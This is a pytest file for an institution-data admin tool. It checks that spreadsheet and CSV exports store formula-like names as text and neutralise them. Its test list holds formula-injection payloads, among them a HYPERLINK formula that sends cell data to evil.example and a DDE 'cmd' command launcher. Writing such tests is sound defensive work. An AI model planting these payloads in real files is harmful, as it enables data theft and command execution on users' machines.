"""Issue 28 finding 2: text a user entered (an institution's name) never becomes a live formula in an
export: every .xlsx writes it as a text cell, the CSV export neutralises a cell starting with = + - @,
tab or CR, and what an export wrote imports back as written."""
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from accounting.xlsx import sheet
from prepay_admin.intake.cells import text
from prepay_admin.intake.kinds import KINDS
from prepay_admin.intake.writing import csv_text, data_csv, data_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A3,"点此查看")', "=1+1", "+1+2", "@SUM(A1:A9)",
           "-2+3+cmd|' /C calc'!A0"]


@pytest.mark.parametrize("name", HOSTILE)
def test_28_a_report_writes_a_formula_like_name_as_text(name):
    book = load_workbook(io.BytesIO(sheet("机构", "2026", ["编码", "名称"], [["H1", name]], [10, 30])))
    cell = book.active["B4"]
    assert cell.value == name and cell.data_type == "s"


def record(name: str) -> dict:
    return {"institution_code": "H32060000001", "name": name, "credit_code": "91320600MA1234567X",
            "kind": "hospital", "level": "grade_2", "state_run": True, "settled_since": dt.date(2020, 1, 1),
            "bank_name": "银行", "bank_account": "6222020000000001"}


@pytest.mark.parametrize("name", HOSTILE)
def test_28_the_import_layout_export_writes_a_formula_like_name_as_text(name):
    out = io.BytesIO()
    data_xlsx(KINDS["institutions"], [record(name)], out)
    row = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(min_row=2, max_row=2))[0]
    assert row[1].value == name and row[1].data_type == "s"


@pytest.mark.parametrize("name", HOSTILE)
def test_28_the_csv_export_neutralises_a_formula_like_cell_and_it_reads_back_as_written(name):
    out = io.BytesIO()
    data_csv(KINDS["institutions"], [record(name)], out)
    written = out.getvalue().decode("utf-8-sig").splitlines()[1]
    assert f"'{name[0]}" in written
    assert text(csv_text(name), 200) == name  # the intake reads the neutralised cell back as the name


def test_28_numbers_and_plain_text_are_left_as_they_are():
    assert csv_text(-2) == -2 and csv_text("南通市第一人民医院") == "南通市第一人民医院"
    assert csv_text("\tx") == "'\tx" and csv_text("\rx") == "'\rx"
